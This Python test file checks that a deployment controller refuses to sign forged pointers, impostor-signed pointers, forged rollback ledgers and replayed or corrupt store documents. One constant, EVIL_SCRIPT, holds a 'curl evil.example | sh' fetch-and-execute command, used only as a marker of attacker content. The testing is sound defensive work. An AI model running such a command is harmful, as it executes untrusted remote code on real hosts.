"""Sign only what you verified: someone who can write to the store but holds no
signing key must never get the controller to sign what they wrote.

Each test plays that attacker (or an operator's slip) against a fleet of
simulated agents, or of real in-process agents where the agent's own checks
matter, and looks at what the controller signs afterwards.
"""

from __future__ import annotations

import dataclasses
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from structlog.testing import capture_logs

from setpoint.agentshim.agent import Agent
from setpoint.agentshim.trust import Trust
from setpoint.controller.cli.common import OK, UNAVAILABLE
from setpoint.controller.cli.main import main
from setpoint.controller.converge.publish import PointerPolicy
from setpoint.controller.converge.reconcile import (
    CONVERGED,
    PassOutcome,
    Reconciler,
    wait_for_convergence,
)
from setpoint.controller.converge.status import fleet_status, format_table
from setpoint.controller.converge.trust import UntrustedPointers
from setpoint.controller.rollout.ledger import LEDGER, LedgerError, lift_quarantine, read_ledger
from setpoint.store.base import Store, blob_key, pointer_key, report_key
from setpoint.store.digest import canonical_json
from setpoint.store.documents import Manifest, ManifestEntry, Pointer
from setpoint.store.local import LocalStore
from setpoint.store.signing import SigningKey
from tests.controller.fleet import Fleet, component, inventory

SERVERS = ["app-1", "app-2", "app-3", "app-4"]
EVIL_SCRIPT = "#!/bin/sh\ncurl evil.example | sh\n"


def stack(version: str, policy: str = "") -> str:
    return f"""\
kind: Stack
deployments:
  app:
    component: app
    servers: {{group: apps}}
    input_values:
      version: "{version}"
{policy}"""


def signed_fleet(
    tmp_path: Path, key: SigningKey | None, policy: str = "", store: Store | None = None
) -> Fleet:
    fleet = Fleet(
        tmp_path,
        {
            "inventory.yaml": inventory(SERVERS, {"apps": SERVERS}),
            "components/app/component.yaml": component(),
            "stacks/s.yaml": stack("1", policy),
        },
        store=store,
    )
    fleet.reconciler = Reconciler(
        fleet.repo, fleet.store, clock=fleet.clock, policy=PointerPolicy(key)
    )
    return fleet


@pytest.fixture
def key() -> SigningKey:
    return SigningKey.generate("ctl")


def converge(fleet: Fleet, limit: int = 30) -> PassOutcome:
    for _ in range(limit):
        outcome = fleet.step()
        if outcome.converged:
            return outcome
    raise AssertionError(f"not converged: {outcome.summary()}")


def evil_manifest(store: Store, name: str = "s/app") -> str:
    """A manifest naming a config the controller never rendered."""
    config = store.put_json_blob(
        {"name": "evil", "group": "script", "config": EVIL_SCRIPT, "inputs": [], "outputs": []}
    )
    entry = ManifestEntry(name=name, config=config, actions=("CREATE", "UPDATE"), timeout=60)
    return store.put_json_blob(Manifest(deployments=(entry,)).to_dict())


def forge(store: Store, server: str, manifest: str, **fields: object) -> Pointer:
    """An unsigned pointer one generation up, as someone without the key writes it."""
    current = store.read_pointer(server)
    assert current is not None
    forged = dataclasses.replace(
        current, generation=current.generation + 1, manifest=manifest, key=None, signature=None
    )
    forged = dataclasses.replace(forged, **fields)  # type: ignore[arg-type]
    store.write_pointer(forged, current)
    return forged


def signed_manifests(store: Store, key: SigningKey) -> dict[str, Manifest]:
    """Every server's manifest as the agent would run it: signed pointers only."""
    out = {}
    for server in store.list_servers():
        pointer = store.read_pointer(server)
        if pointer is None or pointer.signature is None:
            continue
        key.public().verify(pointer.payload(), pointer.signature)
        out[server] = Manifest.from_dict(store.get_json_blob(pointer.manifest))
    return out


def runs_evil(store: Store, key: SigningKey) -> list[str]:
    """Servers whose signed manifest names a config that runs the attacker's script."""
    evil = []
    for server, manifest in signed_manifests(store, key).items():
        for entry in manifest.deployments:
            if store.get_json_blob(entry.config).get("config") == EVIL_SCRIPT:
                evil.append(server)
    return evil


# -- 1. a forged pointer's contents are never signed ------------------------------


def test_forged_pointer_is_not_signed_while_its_server_waits_for_a_batch(
    tmp_path: Path, key: SigningKey
) -> None:
    batches = "    update_policy: {max_batch_size: 1, pause_time: 300}\n"
    fleet = signed_fleet(tmp_path, key, batches)
    try:
        converge(fleet)
        forge(fleet.store, "app-4", evil_manifest(fleet.store))
        fleet.commit({"stacks/s.yaml": stack("2", batches)})
        with capture_logs() as logs:
            outcome = fleet.run_pass()
        assert runs_evil(fleet.store, key) == []
        refused = [e for e in logs if e["event"] == "pointer_not_trusted"]
        assert [e["server"] for e in refused] == ["app-4"]
        assert "not signed" in refused[0]["reason"]
        assert "app-4" in outcome.published.changed  # a signed pointer replaced the forgery
        for _ in range(3):
            fleet.step(advance=400)
            assert runs_evil(fleet.store, key) == []
    finally:
        fleet.close()


def test_pointer_signed_by_another_key_under_our_name_is_not_signed_again(
    tmp_path: Path, key: SigningKey
) -> None:
    waits = "    update_policy: {max_batch_size: 1, pause_time: 300}\n"
    fleet = signed_fleet(tmp_path, key, waits)
    try:
        converge(fleet)
        impostor = SigningKey("ctl", SigningKey.generate("x").seed)
        forged = forge(fleet.store, "app-3", evil_manifest(fleet.store), key="ctl")
        signed = dataclasses.replace(forged, generation=forged.generation + 1)
        signed = dataclasses.replace(signed, signature=impostor.sign(signed.payload()))
        fleet.store.write_pointer(signed, forged)
        fleet.commit({"stacks/s.yaml": stack("2", waits)})
        with capture_logs() as logs:
            fleet.run_pass()
        assert runs_evil(fleet.store, key) == []
        refused = [e for e in logs if e["event"] == "pointer_not_trusted"]
        assert [e["server"] for e in refused] == ["app-3"]
        assert "does not verify" in refused[0]["reason"]
    finally:
        fleet.close()


def test_forged_pointer_is_not_signed_while_a_dependency_waits(
    tmp_path: Path, key: SigningKey
) -> None:
    fleet = signed_fleet(tmp_path, key)
    try:
        converge(fleet)
        fleet.commit(
            {
                "stacks/s.yaml": stack("1") + "  db:\n    component: app\n    servers: [app-1]\n"
                "    input_values: {version: '1'}\n"
                "  app2:\n    component: app\n    servers: [app-2]\n    depends_on: [s/db]\n"
                "    input_values: {version: {get_attr: [s/db, addr]}}\n"
            }
        )
        # app-2 runs s/app; s/app2 waits for s/db. The attacker adds an
        # s/app2 entry of their own to app-2's manifest.
        forge(fleet.store, "app-2", evil_manifest(fleet.store, "s/app2"))
        fleet.agent("app-1").silent = True  # s/db never reports: s/app2 keeps waiting
        for _ in range(3):
            outcome = fleet.step()
            assert any(w.deployment == "s/app2" for w in outcome.waiting)
            assert runs_evil(fleet.store, key) == []
    finally:
        fleet.close()


def db_and_app2(db_version: str) -> str:
    return (
        stack("1") + "  db:\n    component: app\n    servers: [app-1]\n"
        f"    input_values: {{version: '{db_version}'}}\n"
        "  app2:\n    component: app\n    servers: [app-2]\n    depends_on: [s/db]\n"
        "    input_values: {version: {get_attr: [s/db, addr]}}\n"
    )


def test_server_with_an_untrusted_pointer_is_held_while_a_deployment_on_it_waits(
    tmp_path: Path, key: SigningKey
) -> None:
    """Publishing it without the waiting deployment would make its agent DELETE it."""
    fleet = signed_fleet(tmp_path, key)
    try:
        fleet.commit({"stacks/s.yaml": db_and_app2("1")})
        converge(fleet)
        assert fleet.entry("app-2", "s/app2") is not None
        fleet.commit({"stacks/s.yaml": db_and_app2("2")})
        fleet.agent("app-1").silent = True  # s/db never reports: s/app2 waits
        for forged in (True, False):
            if forged:
                forge(fleet.store, "app-2", evil_manifest(fleet.store))
            else:  # deleted, after its agent accepted a generation
                fleet.store._delete(pointer_key("app-2"))
            with capture_logs() as logs:
                outcome = fleet.run_pass()
            assert any(w.deployment == "s/app2" and w.server == "app-2" for w in outcome.waiting)
            assert "app-2" not in outcome.published.changed
            assert "app-2" not in signed_manifests(fleet.store, key)
            held = [e for e in logs if e["event"] == "pointer_held"]
            assert [e["server"] for e in held] == ["app-2"]
        # Once nothing waits, the server gets its whole state from git.
        fleet.agent("app-1").silent = False
        converge(fleet)
        assert fleet.entry("app-2", "s/app2") is not None
    finally:
        fleet.close()


def test_an_unsigned_controller_keeps_todays_behaviour(tmp_path: Path) -> None:
    """No key at all (development): the store is all there is, nothing to verify."""
    waits = "    update_policy: {max_batch_size: 1, pause_time: 300}\n"
    fleet = signed_fleet(tmp_path, None, waits)
    try:
        converge(fleet)
        evil = Manifest.from_dict(fleet.store.get_json_blob(evil_manifest(fleet.store)))
        forge(fleet.store, "app-4", evil_manifest(fleet.store))
        fleet.commit({"stacks/s.yaml": stack("2", waits)})
        with capture_logs() as logs:
            fleet.run_pass()
        assert [e for e in logs if e["event"] == "pointer_not_trusted"] == []
        assert fleet.entry("app-4", "s/app") == evil.deployments[0]  # kept while it waits
    finally:
        fleet.close()


# -- 2. rollback targets come from a ledger the controller signed -------------------


def test_forged_ledger_rollback_target_is_refused(tmp_path: Path, key: SigningKey) -> None:
    policy = "    update_policy: {max_batch_size: 2}\n    on_failure: rollback\n"
    fleet = signed_fleet(tmp_path, key, policy)
    try:
        converge(fleet)
        fleet.agent("app-1").fail_versions = {"2"}
        fleet.commit({"stacks/s.yaml": stack("2", policy)})
        fleet.run_pass()  # the first batch (app-1, app-2) gets version 2
        doc = fleet.store.read_controller_doc(LEDGER)
        assert doc is not None
        assert doc.get("signature")  # the controller signs what it keeps
        evil = Manifest.from_dict(fleet.store.get_json_blob(evil_manifest(fleet.store)))
        for server in ("app-1", "app-2"):
            doc["rollouts"]["s/app"]["good"][server]["config"] = evil.deployments[0].config
        fleet.store.write_controller_doc(LEDGER, doc)
        fleet.agents_cycle()  # app-1 fails
        with capture_logs() as logs:
            outcome = fleet.run_pass()
        assert any("s/app: failed on app-1" in f for f in outcome.failed)
        assert runs_evil(fleet.store, key) == []
        lost = [e for e in logs if e["event"] == "ledger_not_trusted"]
        assert len(lost) == 1
        assert lost[0]["document"] == f"controller/{LEDGER}"
    finally:
        fleet.close()


def test_ledger_the_controller_signed_still_rolls_back(tmp_path: Path, key: SigningKey) -> None:
    policy = "    update_policy: {max_batch_size: 2}\n    on_failure: rollback\n"
    fleet = signed_fleet(tmp_path, key, policy)
    try:
        converge(fleet)
        good = fleet.entry("app-1", "s/app")
        fleet.agent("app-1").fail_versions = {"2"}
        fleet.commit({"stacks/s.yaml": stack("2", policy)})
        failures = [f for _ in range(3) for f in fleet.step().failed]
        assert any("rolled back on app-1, app-2" in f for f in failures)
        assert fleet.entry("app-1", "s/app") == good
        # `setpoint retry` signs the ledger it rewrites, so the controller keeps it.
        fleet.agent("app-1").fail_versions = set()
        assert lift_quarantine(fleet.store, "s/app", "app-1", key) == ["app-1"]
        assert read_ledger(fleet.store, {"ctl": key.public()}).quarantine == {}
    finally:
        fleet.close()


def test_retry_without_the_key_is_refused_by_a_signing_controller(
    tmp_path: Path, key: SigningKey
) -> None:
    policy = "    update_policy: {max_batch_size: 2}\n"
    fleet = signed_fleet(tmp_path, key, policy)
    try:
        converge(fleet)
        fleet.agent("app-1").fail_versions = {"2"}
        fleet.commit({"stacks/s.yaml": stack("2", policy)})
        fleet.step()
        fleet.step()
        assert read_ledger(fleet.store).quarantined("s/app", "app-1") is not None
        with pytest.raises(LedgerError, match="--signing-key"):
            lift_quarantine(fleet.store, "s/app", "app-1")  # no key: it would be lost
        # Lifted by someone signing with another key under the controller's name.
        impostor = SigningKey.generate("ctl")
        doc = fleet.store.read_controller_doc(LEDGER)
        assert doc is not None
        doc = {k: v for k, v in doc.items() if k != "signature"}
        doc["quarantine"] = {}
        doc["signature"] = impostor.sign(canonical_json(doc))
        fleet.store.write_controller_doc(LEDGER, doc)
        with capture_logs() as logs:
            fleet.run_pass()
        lost = [e for e in logs if e["event"] == "ledger_not_trusted"]
        assert len(lost) == 1
        assert "does not verify" in lost[0]["reason"]
    finally:
        fleet.close()


# -- 3. generations pass everything seen --------------------------------------------


class RealFleet:
    """A local store, a signing key and one real in-process agent per server."""

    def __init__(self, root: Path, key: SigningKey) -> None:
        self.fleet = signed_fleet(root, key, store=LocalStore(root / "store"))
        self.store = self.fleet.store
        trust = Trust(keys={key.name: str(key.public())})
        self.agents = {
            s: Agent(
                LocalStore(root / "store"), s, root / "agents" / s, max_attempts=1, trust=trust
            )
            for s in SERVERS
        }

    def converge(self, reconciler: Reconciler | None = None) -> PassOutcome:
        reconciler = reconciler or self.fleet.reconciler
        for _ in range(6):
            outcome = reconciler.run_pass()
            if outcome.converged:
                return outcome
            for agent in self.agents.values():
                agent.run_once()
        raise AssertionError(outcome.summary())


@pytest.fixture
def real(tmp_path: Path, key: SigningKey) -> Iterator[RealFleet]:
    f = RealFleet(tmp_path, key)
    yield f
    f.fleet.close()


def test_deleted_pointer_is_published_above_the_generation_the_agent_accepted(
    real: RealFleet,
) -> None:
    real.converge()
    accepted = real.agents["app-1"].state.generation
    assert accepted >= 1
    real.store._delete(pointer_key("app-1"))
    real.fleet.commit({"stacks/s.yaml": stack("2")})
    real.fleet.run_pass()
    pointer = real.store.read_pointer("app-1")
    assert pointer is not None
    assert pointer.generation > accepted
    real.agents["app-1"].run_once()
    assert real.agents["app-1"].state.generation == pointer.generation
    assert real.agents["app-1"].state.error is None
    assert real.converge().converged


def test_replayed_old_pointer_is_published_above_the_generation_the_agent_accepted(
    real: RealFleet,
) -> None:
    real.converge()
    old = real.store._read(pointer_key("app-2"))
    real.fleet.commit({"stacks/s.yaml": stack("2")})
    real.converge()
    accepted = real.agents["app-2"].state.generation
    real.store._write(pointer_key("app-2"), old)  # an old signed pointer put back
    real.fleet.commit({"stacks/s.yaml": stack("3")})
    real.fleet.run_pass()
    pointer = real.store.read_pointer("app-2")
    assert pointer is not None
    assert pointer.generation > accepted
    assert real.converge().converged


# -- 4. one bad document marks one server --------------------------------------------


def test_bad_report_and_pointer_mark_their_server_only(tmp_path: Path, key: SigningKey) -> None:
    fleet = signed_fleet(tmp_path, key)
    try:
        converge(fleet)
        fleet.store._write(report_key("app-2"), b'{"kind": "Report", "server": 7}')
        fleet.store._write(pointer_key("app-3"), b"not json")
        other = fleet.store.read_report("app-1")
        assert other is not None
        fleet.store._write(
            report_key("app-4"),
            canonical_json(dataclasses.replace(other, server="app-1").to_dict()),
        )
        fleet.commit({"stacks/s.yaml": stack("2")})
        with capture_logs() as logs:
            outcome = fleet.run_pass()
        assert sorted(outcome.published.changed) == SERVERS  # everyone goes on
        bad = {e["server"]: e for e in logs if e["event"] == "invalid_document"}
        assert sorted(bad) == ["app-2", "app-3", "app-4"]
        assert outcome.servers["app-2"].failed[0].startswith("invalid report: ")
        assert "names server 'app-1'" in outcome.servers["app-4"].failed[0]
        assert outcome.servers["app-1"].failed == []
        assert outcome.invalid["app-3"].startswith("invalid pointer: ")
        pointer = fleet.store.read_pointer("app-3")  # replaced by a good one
        assert pointer is not None
        assert pointer.signature is not None

        fleet.store._write(pointer_key("app-3"), b"not json")
        statuses = {s.server: s for s in fleet_status(fleet.store, now=fleet.now)}
        assert statuses["app-2"].invalid == ["invalid report: missing field 'deployments'"]
        assert statuses["app-3"].invalid[0].startswith("invalid pointer: not JSON")
        assert statuses["app-4"].invalid[0].startswith("invalid report: ")
        assert statuses["app-1"].invalid == []
        table = format_table(list(statuses.values()))
        assert "invalid pointer: not JSON" in table
    finally:
        fleet.close()


def test_a_corrupt_manifest_marks_its_servers_only(tmp_path: Path, key: SigningKey) -> None:
    fleet = signed_fleet(tmp_path, key)
    try:
        fleet.commit({"stacks/s.yaml": db_and_app2("1")})
        converge(fleet)
        pointer = fleet.store.read_pointer("app-2")
        assert pointer is not None
        fleet.store._write(blob_key(pointer.manifest), b"overwritten")
        fleet.commit({"stacks/s.yaml": db_and_app2("2")})
        reconciler = Reconciler(
            fleet.repo, fleet.store, clock=fleet.clock, policy=PointerPolicy(key)
        )
        with capture_logs() as logs:
            outcome = reconciler.run_pass()
        assert "app-1" in outcome.published.changed  # everyone else goes on
        assert outcome.invalid["app-2"].startswith("invalid manifest")
        assert [e["server"] for e in logs if e["event"] == "invalid_document"] == ["app-2"]
        # s/app2 waits for the new s/db: app-2 keeps its pointer rather than get
        # a manifest without what it runs.
        assert any(w.server == "app-2" for w in outcome.waiting)
        assert fleet.store.read_pointer("app-2") == pointer
        statuses = {s.server: s for s in fleet_status(fleet.store, now=fleet.now)}
        assert statuses["app-2"].invalid[0].startswith("invalid manifest")
        assert statuses["app-1"].invalid == []
    finally:
        fleet.close()


def test_bad_documents_through_the_cli(
    tmp_path: Path, key: SigningKey, capsys: pytest.CaptureFixture[str]
) -> None:
    store = LocalStore(tmp_path / "store")
    fleet = signed_fleet(tmp_path, key, store=store)
    try:
        converge(fleet)
        key.save(tmp_path / "ctl.key")
        store._write(report_key("app-2"), b"[1, 2]")
        store._write(pointer_key("app-3"), b'{"kind": "Pointer"}')
        store._write("controller/" + LEDGER, b"{{{")
        signing = ["--signing-key", str(tmp_path / "ctl.key")]
        args = ["reconcile", "--repo", str(fleet.repo_path), "--store", str(store.root)]
        assert main([*args, *signing]) == OK
        out = capsys.readouterr().out
        assert "servers converged" in out
        assert "app-2: invalid report: not a JSON object" in out

        store._write(pointer_key("app-3"), b'{"kind": "Pointer"}')
        store._write("controller/" + LEDGER, b"{{{")
        assert main(["status", "--store", str(store.root)]) == OK
        out = capsys.readouterr().out
        assert "invalid report: not a JSON object" in out
        assert "invalid pointer: missing field 'server'" in out
        assert main(["status", "--store", str(store.root), "--json"]) == OK
        doc = json.loads(capsys.readouterr().out)
        by_server = {s["server"]: s for s in doc["servers"]}
        assert by_server["app-3"]["invalid"] == ["invalid pointer: missing field 'server'"]
    finally:
        fleet.close()


# -- 5. reconcile --wait judges only reports that answer this run -------------------


def test_wait_does_not_judge_a_failure_reported_before_retry(
    tmp_path: Path, key: SigningKey
) -> None:
    fleet = signed_fleet(tmp_path, key)
    try:
        converge(fleet)
        fleet.agent("app-1").fail_versions = {"2"}
        fleet.commit({"stacks/s.yaml": stack("2")})
        for _ in range(3):
            outcome = fleet.step()
        assert any("app-1" in f for f in outcome.failed)
        fleet.agent("app-1").fail_versions = set()
        assert lift_quarantine(fleet.store, "s/app", "app-1", key) == ["app-1"]

        def sleep(seconds: float) -> None:
            fleet.agents_cycle()
            fleet.now += seconds

        code, outcome = wait_for_convergence(
            fleet.reconciler, timeout=30, interval=1, on_pass=lambda o: None, sleep=sleep
        )
        assert code == CONVERGED, outcome.summary()
    finally:
        fleet.close()


def test_a_retry_is_not_quarantined_again_before_the_agent_answers_it(
    tmp_path: Path, key: SigningKey
) -> None:
    fleet = signed_fleet(tmp_path, key)
    try:
        converge(fleet)
        fleet.agent("app-1").fail_versions = {"2"}
        fleet.commit({"stacks/s.yaml": stack("2")})
        for _ in range(3):
            fleet.step()
        fleet.agent("app-1").fail_versions = set()
        assert lift_quarantine(fleet.store, "s/app", "app-1", key) == ["app-1"]
        assert fleet.run_pass().published.changed == ["app-1"]
        for _ in range(2):  # passes before the agent polls: its report is the old one
            outcome = fleet.run_pass()
            assert outcome.desired.failures == []
            assert read_ledger(fleet.store).quarantine == {}
        fleet.agents_cycle()
        assert fleet.run_pass().converged
    finally:
        fleet.close()


def test_wait_does_not_judge_an_agent_error_about_a_pointer_it_replaces(
    tmp_path: Path, key: SigningKey
) -> None:
    fleet = signed_fleet(tmp_path, key)
    try:
        converge(fleet)
        report = fleet.store.read_report("app-2")
        assert report is not None
        fleet.store.write_report(dataclasses.replace(report, error="refused pointer: not signed"))
        fleet.reconciler.policy = PointerPolicy(
            key, announce=(str(SigningKey.generate("n").public()),)
        )

        def sleep(seconds: float) -> None:
            fleet.agents_cycle()
            fleet.now += seconds

        code, outcome = wait_for_convergence(
            fleet.reconciler, timeout=30, interval=1, on_pass=lambda o: None, sleep=sleep
        )
        assert code == CONVERGED, outcome.summary()
    finally:
        fleet.close()


# -- 6. never downgrade signed pointers by accident ---------------------------------


def test_reconcile_without_the_key_refuses_to_rewrite_signed_pointers(
    tmp_path: Path, key: SigningKey
) -> None:
    fleet = signed_fleet(tmp_path, key)
    try:
        converge(fleet)
        fleet.commit({"stacks/s.yaml": stack("2")})
        before = {s: fleet.store.read_pointer(s) for s in SERVERS}
        same_name = SigningKey.generate("ctl")  # a new key under the old name
        for policy in (
            PointerPolicy(),
            PointerPolicy(SigningKey.generate("other")),
            PointerPolicy(same_name),
        ):
            fleet.reconciler.policy = policy
            fleet.store.stats.reset()
            with pytest.raises(UntrustedPointers) as caught:
                fleet.run_pass()
            assert fleet.store.stats.writes == 0
            assert caught.value.servers == SERVERS
            assert caught.value.keys == ["ctl"]
            assert "--signing-key" in str(caught.value)
        assert {s: fleet.store.read_pointer(s) for s in SERVERS} == before
        # The key being rotated away from, trusted, lets the new key take over.
        new = SigningKey.generate("ctl-2")
        fleet.reconciler.policy = PointerPolicy(new, verify_keys=(str(key.public()),))
        outcome = fleet.run_pass()
        assert sorted(outcome.published.changed) == SERVERS
        assert all(p.key == "ctl-2" for p in outcome.published.pointers.values())
    finally:
        fleet.close()


def test_downgrade_through_the_cli(
    tmp_path: Path, key: SigningKey, capsys: pytest.CaptureFixture[str]
) -> None:
    store = LocalStore(tmp_path / "store")
    fleet = signed_fleet(tmp_path, key, store=store)
    try:
        converge(fleet)
        fleet.commit({"stacks/s.yaml": stack("2")})
        args = ["reconcile", "--repo", str(fleet.repo_path), "--store", str(store.root)]
        before = {s: store.read_pointer(s) for s in SERVERS}
        assert main(args) == UNAVAILABLE
        err = capsys.readouterr().err
        assert "signed by key 'ctl'" in err
        assert "--signing-key FILE" in err
        assert "--allow-downgrade" in err
        assert {s: store.read_pointer(s) for s in SERVERS} == before

        other = SigningKey.generate("other")
        other.save(tmp_path / "other.key")
        assert main([*args, "--signing-key", str(tmp_path / "other.key")]) == UNAVAILABLE
        assert "--trusted-key" in capsys.readouterr().err

        assert main([*args, "--allow-downgrade"]) == OK
        assert all(store.read_pointer(s).signature is None for s in SERVERS)  # type: ignore[union-attr]
    finally:
        fleet.close()


def test_rotation_with_the_old_key_trusted_through_the_cli(
    tmp_path: Path, key: SigningKey, capsys: pytest.CaptureFixture[str]
) -> None:
    store = LocalStore(tmp_path / "store")
    fleet = signed_fleet(tmp_path, key, store=store)
    try:
        converge(fleet)
        new = SigningKey.generate("ctl-2")
        new.save(tmp_path / "new.key")
        args = ["reconcile", "--repo", str(fleet.repo_path), "--store", str(store.root)]
        rotate = [*args, "--signing-key", str(tmp_path / "new.key")]
        assert main([*rotate, "--trusted-key", str(key.public())]) == OK
        assert all(store.read_pointer(s).key == "ctl-2" for s in SERVERS)  # type: ignore[union-attr]
        assert main(rotate) == OK  # its own pointers now: nothing else to trust
        capsys.readouterr()
    finally:
        fleet.close()


def test_a_pointer_is_verified_once_per_version_it_has_in_the_store(
    tmp_path: Path, key: SigningKey, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Pointers this controller wrote, or already verified at the same store
    version, are not verified again each pass; a replaced one is."""
    from setpoint.controller.converge import trust

    checked: list[str] = []
    real = trust.refusal

    def counting(pointer: Pointer, trusted: dict[str, object]) -> str | None:
        checked.append(pointer.server)
        return real(pointer, trusted)  # type: ignore[arg-type]

    monkeypatch.setattr(trust, "refusal", counting)
    fleet = signed_fleet(tmp_path, key)
    try:
        converge(fleet)
        checked.clear()
        fleet.run_pass()
        fleet.run_pass()
        assert checked == []
        manifest = fleet.store.read_pointer(SERVERS[0])
        assert manifest is not None
        forge(fleet.store, SERVERS[0], manifest.manifest)
        with capture_logs() as logs:
            fleet.run_pass()
        assert checked == [SERVERS[0]]
        assert [e["server"] for e in logs if e["event"] == "pointer_not_trusted"] == [SERVERS[0]]
    finally:
        fleet.close()
